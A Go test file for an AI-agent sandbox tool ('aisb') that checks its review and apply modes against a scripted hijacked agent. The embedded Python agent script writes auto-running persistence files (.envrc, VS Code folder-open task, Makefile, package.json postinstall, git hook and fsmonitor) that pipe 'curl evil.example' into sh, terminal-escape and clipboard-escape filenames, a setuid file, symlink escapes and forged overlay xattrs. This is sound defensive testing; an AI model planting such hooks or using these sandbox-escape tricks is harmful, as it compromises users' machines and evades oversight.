// review_hostile_test.go is long because each attack needs its agent script
// beside the checks that read what it did: hostile names and files, a sparse
// terabyte, a killed apply.

package tests

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/aisb-dev/aisb/internal/testhost"
)

// treeScript is the agent's own account of /project, as JSON between TREE
// markers: hex name -> "d MODE", "f MODE SHA256", "l HEXTARGET", "p" (fifo).
// It lifts the modes it set itself to read, and puts them back.
const treeScript = `
import os, stat, hashlib, json
def tree(root=b'/project'):
    out = {}
    def walk(d, rel):
        for n in sorted(os.listdir(d)):
            p, r = d + b'/' + n, (rel + b'/' + n if rel else n)
            st = os.lstat(p)
            m = st.st_mode & 0o7777
            if stat.S_ISLNK(st.st_mode):
                out[r.hex()] = 'l ' + os.readlink(p).hex()
            elif stat.S_ISDIR(st.st_mode):
                out[r.hex()] = 'd %o' % m
                if m & 0o500 != 0o500:
                    os.chmod(p, m | 0o700)
                walk(p, r)
                if m & 0o500 != 0o500:
                    os.chmod(p, m)
            elif stat.S_ISREG(st.st_mode):
                if not m & 0o400:
                    os.chmod(p, m | 0o400)
                with open(p, 'rb') as f:
                    out[r.hex()] = 'f %o %s' % (m, hashlib.sha256(f.read()).hexdigest())
                if not m & 0o400:
                    os.chmod(p, m)
            elif stat.S_ISFIFO(st.st_mode):
                out[r.hex()] = 'p'
    walk(root, b'')
    print('TREE-BEGIN' + json.dumps(out) + 'TREE-END', flush=True)
`

// hexTree is treeScript's account of dir, read on the host.
func hexTree(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		if rel == "." {
			return nil
		}
		var st syscall.Stat_t
		if err := syscall.Lstat(p, &st); err != nil {
			return err
		}
		m := st.Mode & 0o7777
		key := hex.EncodeToString([]byte(rel))
		switch st.Mode & syscall.S_IFMT {
		case syscall.S_IFLNK:
			tg, _ := os.Readlink(p)
			out[key] = "l " + hex.EncodeToString([]byte(tg))
		case syscall.S_IFDIR:
			out[key] = fmt.Sprintf("d %o", m)
		case syscall.S_IFREG:
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			s := sha256.Sum256(b)
			out[key] = fmt.Sprintf("f %o %s", m, hex.EncodeToString(s[:]))
		case syscall.S_IFIFO:
			out[key] = "p"
		default:
			out[key] = "other"
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func parseTree(t *testing.T, stdout string) map[string]string {
	t.Helper()
	_, rest, ok1 := strings.Cut(stdout, "TREE-BEGIN")
	body, _, ok2 := strings.Cut(rest, "TREE-END")
	out := map[string]string{}
	if !ok1 || !ok2 || json.Unmarshal([]byte(body), &out) != nil {
		t.Fatalf("the agent did not print its tree:\n%s", stdout)
	}
	return out
}

func hexDiff(want, got map[string]string) string {
	var d []string
	name := func(k string) string { b, _ := hex.DecodeString(k); return strconv.Quote(string(b)) }
	for k, v := range want {
		if got[k] != v {
			d = append(d, fmt.Sprintf("%s: want %q, got %q", name(k), v, got[k]))
		}
	}
	for k, v := range got {
		if _, ok := want[k]; !ok {
			d = append(d, fmt.Sprintf("%s: unexpected %q", name(k), v))
		}
	}
	return strings.Join(d, "\n")
}

// printableOnly fails when out holds a byte a terminal would act on
// beyond a newline or a tab (diff lines keep their tabs, as termsafe does).
func printableOnly(t *testing.T, what, out string) {
	t.Helper()
	for i := 0; i < len(out); i++ {
		if c := out[i]; c != '\n' && c != '\t' && (c < 0x20 || c > 0x7e) {
			t.Errorf("%s printed byte %#x raw at %d:\n%s", what, c, i, out)
			return
		}
	}
}

// hostileAgent is what a hijacked agent does to a project in review mode:
// names that drive a terminal or pose as the listing's own words, every
// kind of file that runs on the host later, a directory replaced by a
// symlink out of the project, a write through a symlink the host had, a
// fifo, a setuid file, a directory it locks (mode 0). argv[1] is a host
// directory outside the project.
const hostileAgent = `
import os, sys, shutil
outside = sys.argv[1].encode()
os.chdir(b'/project')
def w(p, data, mode=0o644):
    with open(p, 'wb') as f:
        f.write(data)
    os.chmod(p, mode)
w(b'evil\x1b]0;pwned\x07\x1b[2J.txt', b'\x1b[31mred\x1b[0m\n')
w('rtl\u202egnp.sh'.encode(), b'#!/bin/sh\n', 0o755)
w(b'line\nbreak.txt', b'x\n')
w(b'a.txt  (mode 0644)', b'fake\n')
w(b'del\x7f c1\xc2\x9b bad\xff', b'y\n')
w(b'.envrc', b'curl -s evil.example | sh\n')
os.makedirs(b'.vscode', exist_ok=True)
w(b'.vscode/tasks.json', b'{"tasks":[{"command":"sh evil","runOptions":{"runOn":"folderOpen"}}]}\n')
w(b'Makefile', b'all:\n\tcurl evil | sh\n')
w(b'package.json', b'{"scripts":{"postinstall":"curl evil | sh"}}\n')
os.chmod(b'plain.sh', 0o755)
w(b'.git/hooks/post-checkout', b'#!/bin/sh\ncurl evil | sh\n', 0o755)
with open(b'.git/config', 'ab') as f:
    f.write(b'[core]\n\tfsmonitor = sh evil\n')
w(b'suid', b'#!/bin/sh\n', 0o4755)
w(b'notes.txt', b'one\n\x1b[2J\x1b]52;c;ZXZpbA==\x07two\r\n')
shutil.rmtree(b'docs')
os.symlink(outside, b'docs')
try:
    os.makedirs(outside, exist_ok=True)
    w(b'link2/through.txt', b'through\n')
    print('THROUGH-OK', flush=True)
except OSError as e:
    print('THROUGH-FAILED', e, flush=True)
os.mkfifo(b'pipe')
# Overlay's own xattrs, were they stored as they are named, would let the
# agent forge in its layer an opaque directory (lib's files hidden), a
# redirect, a whiteout (plain.sh gone) or a metadata-only copy.
for name, p in ((b'user.test', b'keep.txt'), (b'user.overlay.opaque', b'lib'),
                (b'user.overlay.redirect', b'lib'), (b'user.overlay.whiteout', b'plain.sh'),
                (b'user.overlay.metacopy', b'keep.txt'), (b'trusted.overlay.opaque', b'lib')):
    try:
        os.setxattr(p, name, b'y')
        print('XATTR', name.decode(), 'SET', flush=True)
    except OSError as e:
        print('XATTR', name.decode(), 'REFUSED', e.errno, flush=True)
os.makedirs(b'locked/inner')
w(b'locked/inner/secret', b's\n')
os.chmod(b'locked/inner', 0)
os.chmod(b'locked', 0)
` + treeScript + `
tree()
`

// hostileProject: a project with a directory the agent replaces by a
// symlink, a host symlink out of it, a script without its exec bit.
func hostileProject(t *testing.T, dir, outside string) {
	t.Helper()
	for p, c := range map[string]string{
		"keep.txt": "keep\n", "plain.sh": "#!/bin/sh\necho plain\n", "notes.txt": "one\ntwo\n",
		"docs/a.md": "a\n", "docs/sub/b.md": "b\n",
		".git/config": "[core]\n\tbare = false\n", ".git/HEAD": "ref: refs/heads/main\n",
		"lib/keep.c": "int x;\n",
	} {
		writeUserFile(t, filepath.Join(dir, p), c)
	}
	os.MkdirAll(filepath.Join(dir, ".git/hooks"), 0o755)
	if err := os.Symlink(outside, filepath.Join(dir, "link2")); err != nil {
		t.Fatal(err)
	}
	chownTree(t, dir)
	writeUserFile(t, filepath.Join(outside, "canary"), "canary\n")
}

// A hijacked agent in review mode: what it wrote cannot make aisb review
// print a byte a terminal acts on, in text or JSON; every file that runs
// on the host later is flagged before the rest; --apply reproduces the
// agent's tree (its fifo skipped) and writes nothing outside the project,
// neither through the agent's symlink nor through the host's.
func TestReviewHostileAgent(t *testing.T) {
	parallel(t)
	a := newAisb(t, testBaseImage(t), "")
	outside := testhost.UserDir(t)
	hostileProject(t, a.project, outside)
	before := hexTree(t, a.project)
	outBefore := hexTree(t, outside)

	r := a.run(t, "run", "--review", "--net", "none", "--harness", "shell", "--", "python3", "-c", hostileAgent, outside)
	if r.Code != 0 {
		t.Fatalf("aisb run --review: %s", r)
	}
	agent := parseTree(t, r.Stdout)
	t.Logf("write through the host's symlink, inside the sandbox: %s", strings.TrimSpace(strings.Split(strings.SplitAfter(r.Stdout, "THROUGH-")[1], "\n")[0]))
	if d := hexDiff(before, hexTree(t, a.project)); d != "" {
		t.Fatalf("aisb run --review changed the real project:\n%s", d)
	}
	if d := hexDiff(outBefore, hexTree(t, outside)); d != "" {
		t.Fatalf("the session wrote outside the project:\n%s", d)
	}
	// Measured on kernel 6.18: the agent can set user.overlay.* names on
	// /project, and overlay stores them escaped (user.overlay.overlay.*) in
	// the layer, where neither the kernel nor aisb reads them as its own.
	// The tree compared after apply (lib/keep.c kept, plain.sh there) is
	// the proof; the layer's xattrs are checked for the record.
	upper := filepath.Join(reviewSessions(t, a)[0], "upper")
	for _, l := range strings.Split(r.Stdout, "\n") {
		f := strings.Fields(l)
		if len(f) < 3 || f[0] != "XATTR" {
			continue
		}
		t.Log(l)
		name, ok := strings.CutPrefix(f[1], "user.overlay.")
		if !ok || f[2] != "SET" {
			continue
		}
		path := map[string]string{"opaque": "lib", "redirect": "lib", "whiteout": "plain.sh", "metacopy": "keep.txt"}[name]
		buf := make([]byte, 256)
		if _, err := syscall.Getxattr(filepath.Join(upper, path), "user.overlay."+name, buf); err == nil {
			t.Errorf("the agent's user.overlay.%s is in its layer on %s as overlay's own", name, path)
		}
		if _, err := syscall.Getxattr(filepath.Join(upper, path), "user.overlay.overlay."+name, buf); err != nil {
			t.Errorf("the agent's user.overlay.%s on %s is not in its layer escaped: %v", name, path, err)
		}
	}

	r = a.run(t, "review")
	if r.Code != 0 {
		t.Fatalf("aisb review: %s", r)
	}
	printableOnly(t, "aisb review (stdout)", r.Stdout)
	printableOnly(t, "aisb review (stderr)", r.Stderr)
	flagged, rest, ok := strings.Cut(r.Stdout, "other changes:")
	if !ok {
		t.Fatalf("no flagged section:\n%s", r.Stdout)
	}
	for _, want := range []string{
		"! A .envrc", "! A .vscode/tasks.json", "! A Makefile", "! A package.json", "! m plain.sh",
		"! A .git/hooks/post-checkout", "! M .git/config", "! A suid", `! A "rtl\u202egnp.sh"`,
		"! M docs  (dir -> symlink",
	} {
		if !strings.Contains(flagged, want) {
			t.Errorf("not flagged first: %q\n%s", want, r.Stdout)
		}
	}
	for _, want := range []string{
		`"evil\x1b]0;pwned\a\x1b[2J.txt"`, `"line\nbreak.txt"`, `"a.txt  (mode 0644)"`,
		`"del\x7f c1\u009b bad\xff"`, `D docs/sub/b.md`, `? pipe`, `+\x1b[2J\x1b]52;c;ZXZpbA==\x07two\x0d`,
	} {
		if !strings.Contains(rest, want) {
			t.Errorf("listing lacks %s:\n%s", want, r.Stdout)
		}
	}
	if !strings.Contains(flagged, "symlink pointing outside the project") || !strings.Contains(flagged, "setuid/setgid bit") {
		t.Errorf("the symlink out or the setuid bit is not said:\n%s", flagged)
	}
	r = a.run(t, "review", "--json")
	printableOnly(t, "aisb review --json", r.Stdout)
	var js struct {
		Changes []struct {
			Path string `json:"path"`
		} `json:"changes"`
	}
	if err := json.Unmarshal([]byte(r.Stdout), &js); err != nil || r.Code != 0 {
		t.Fatalf("aisb review --json: %v\n%s", err, r)
	}
	found := false
	for _, c := range js.Changes {
		found = found || c.Path == "evil\x1b]0;pwned\a\x1b[2J.txt"
	}
	if !found {
		t.Errorf("the JSON does not carry the escape name exactly: %s", r.Stdout)
	}

	r = a.run(t, "review", "--apply")
	if r.Code != 0 {
		t.Fatalf("aisb review --apply: %s", r)
	}
	printableOnly(t, "aisb review --apply", r.Stdout+r.Stderr)
	if !strings.Contains(r.Stdout, "skipped pipe") {
		t.Errorf("apply does not say the fifo was skipped: %s", r)
	}
	want := agent
	delete(want, hex.EncodeToString([]byte("pipe")))
	if d := hexDiff(want, hexTree(t, a.project)); d != "" {
		t.Errorf("the applied project differs from the agent's tree:\n%s", d)
	}
	if d := hexDiff(outBefore, hexTree(t, outside)); d != "" {
		t.Errorf("apply wrote outside the project:\n%s", d)
	}
	if tg, err := os.Readlink(filepath.Join(a.project, "docs")); err != nil || tg != outside {
		t.Errorf("docs after apply: %q %v, want the agent's symlink", tg, err)
	}
}

// A sparse terabyte costs the agent nothing; aisb review lists it without
// reading it, and --apply refuses before writing anything, naming it.
func TestReviewHugeSparseFile(t *testing.T) {
	parallel(t)
	a := newAisb(t, testBaseImage(t), "")
	writeUserFile(t, filepath.Join(a.project, "keep.txt"), "keep\n")
	before := hexTree(t, a.project)
	r := a.run(t, "run", "--review", "--net", "none", "--harness", "shell", "--", "sh", "-c",
		"truncate -s 1T huge.bin && echo small > small.txt && ls -ls huge.bin")
	if r.Code != 0 || !strings.Contains(r.Stdout, "1099511627776") {
		t.Fatalf("the agent's sparse file: %s", r)
	}
	start := time.Now()
	r = a.run(t, "review", "--stat")
	took := time.Since(start)
	if r.Code != 0 || !strings.Contains(r.Stdout, "A huge.bin") || !strings.Contains(r.Stdout, "no diff: not read") || !strings.Contains(r.Stdout, "A small.txt") {
		t.Fatalf("aisb review of a sparse terabyte: %s", r)
	}
	t.Logf("aisb review with a sparse 1 TiB file: %s", took)
	if took > 30*time.Second {
		t.Errorf("aisb review took %s: it read the sparse file", took)
	}
	r = a.run(t, "review", "--apply")
	if r.Code == 0 || !strings.Contains(r.Stderr, "not enough space") || !strings.Contains(r.Stderr, "huge.bin") {
		t.Fatalf("apply of a sparse terabyte: %s", r)
	}
	if d := hexDiff(before, hexTree(t, a.project)); d != "" {
		t.Fatalf("a refused apply changed the project:\n%s", d)
	}
	if r := a.run(t, "review", "--discard"); r.Code != 0 {
		t.Fatalf("discard: %s", r)
	}
}

// manyFilesAgent rewrites every file of the project and adds as many: an
// apply then has thousands of steps to interrupt.
const manyFilesAgent = `
import os
os.chdir('/project')
for d in sorted(os.listdir('.')):
    for n in sorted(os.listdir(d)):
        with open(d + '/' + n, 'a') as f:
            f.write('agent\n')
        with open(d + '/new-' + n, 'w') as f:
            f.write('new\n')
` + treeScript + `
tree()
`

// An apply killed (SIGKILL) half-way through its commit leaves a journal:
// aisb review refuses to list the half-applied project, --apply finishes
// the apply, and --rollback (in a second session) puts the project back as
// it was, after which --apply works.
func TestReviewInterruptedApply(t *testing.T) {
	a := newAisb(t, testBaseImage(t), "")
	for d := 0; d < 40; d++ {
		for f := 0; f < 100; f++ {
			writeUserFile(t, filepath.Join(a.project, fmt.Sprintf("d%02d/f%03d.txt", d, f)), fmt.Sprintf("%d %d\n", d, f))
		}
	}
	before := hexTree(t, a.project)
	for _, finish := range []string{"--apply", "--rollback"} {
		r := a.run(t, "run", "--review", "--net", "none", "--harness", "shell", "--", "python3", "-c", manyFilesAgent)
		if r.Code != 0 {
			t.Fatalf("aisb run --review: %s", r)
		}
		agent := parseTree(t, r.Stdout)
		if d := hexDiff(before, hexTree(t, a.project)); d != "" {
			t.Fatalf("the session changed the project:\n%s", d)
		}
		journal := a.killApplyWhileCommitting(t)
		half := hexTree(t, a.project)
		if hexDiff(before, half) == "" {
			t.Fatal("the killed apply had changed nothing: the test proves nothing")
		}
		r = a.run(t, "review")
		if r.Code == 0 || !strings.Contains(r.Stderr, "interrupted half-way") || !strings.Contains(r.Stderr, "--rollback") {
			t.Errorf("aisb review of a half-applied session: %s", r)
		}
		r = a.run(t, "review", finish)
		if r.Code != 0 {
			t.Fatalf("aisb review %s after the kill: %s", finish, r)
		}
		if _, err := os.Stat(journal); err == nil {
			t.Errorf("the journal is left after %s", finish)
		}
		if finish == "--apply" {
			if !strings.Contains(r.Stdout, "finished the interrupted apply") {
				t.Errorf("--apply did not say it resumed: %s", r)
			}
			if d := hexDiff(agent, hexTree(t, a.project)); d != "" {
				t.Fatalf("the resumed apply differs from the agent's tree:\n%s", d)
			}
			// Back to the start for the rollback round.
			os.RemoveAll(a.project)
			os.Mkdir(a.project, 0o755)
			for d := 0; d < 40; d++ {
				for f := 0; f < 100; f++ {
					writeUserFile(t, filepath.Join(a.project, fmt.Sprintf("d%02d/f%03d.txt", d, f)), fmt.Sprintf("%d %d\n", d, f))
				}
			}
			chownTree(t, a.project)
			before = hexTree(t, a.project)
			continue
		}
		if d := hexDiff(before, hexTree(t, a.project)); d != "" {
			t.Fatalf("the rolled-back project differs from before:\n%s", d)
		}
		if r := a.run(t, "review", "--apply"); r.Code != 0 {
			t.Fatalf("apply after the rollback: %s", r)
		}
		if d := hexDiff(agent, hexTree(t, a.project)); d != "" {
			t.Fatalf("the apply after the rollback differs from the agent's tree:\n%s", d)
		}
	}
}

// killApplyWhileCommitting starts aisb review --apply, waits until its
// journal says it is committing, SIGKILLs it, and returns the journal.
func (a *aisbUser) killApplyWhileCommitting(t *testing.T) string {
	t.Helper()
	sessions := reviewSessions(t, a)
	var dir string
	for _, s := range sessions {
		if b, err := os.ReadFile(filepath.Join(s, "meta.json")); err == nil && strings.Contains(string(b), `"state":"open"`) {
			dir = s
		}
	}
	if dir == "" {
		t.Fatalf("no open review session in %v", sessions)
	}
	journal := filepath.Join(dir, "journal.json")
	pidFile := filepath.Join(testhost.UserDir(t), "pid")
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	argv := append([]string{"sh", "-c", `echo $$ > "$0"; exec "$@"`, pidFile}, a.command(t, ctx, "review", "--apply")...)
	cmd := testhost.UserCommand(ctx, argv...)
	cmd.Dir = a.project
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	start := time.Now()
	for {
		select {
		case err := <-done:
			t.Fatalf("the apply ended (%v) after %s before it could be killed while committing", err, time.Since(start))
		default:
		}
		if journalHead(journal) == "committing" {
			break
		}
		time.Sleep(time.Millisecond)
	}
	pb, err := os.ReadFile(pidFile)
	pid, _ := strconv.Atoi(strings.TrimSpace(string(pb)))
	if err != nil || pid <= 0 {
		t.Fatalf("pid of the apply: %q %v", pb, err)
	}
	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
		t.Fatalf("kill the apply: %v", err)
	}
	<-done
	if st := journalHead(journal); st != "committing" {
		t.Fatalf("after the kill the journal's state is %q, want committing", st)
	}
	t.Logf("killed the apply %s after it started, while committing", time.Since(start))
	return journal
}

// journalHead is the state an apply's journal names first, without reading
// the whole file (it lists every step).
func journalHead(path string) string {
	f, err := os.Open(path)
	if err != nil {
		return ""
	}
	defer f.Close()
	b := make([]byte, 64)
	n, _ := f.Read(b)
	_, rest, _ := strings.Cut(string(b[:n]), `"state":"`)
	st, _, _ := strings.Cut(rest, `"`)
	return st
}
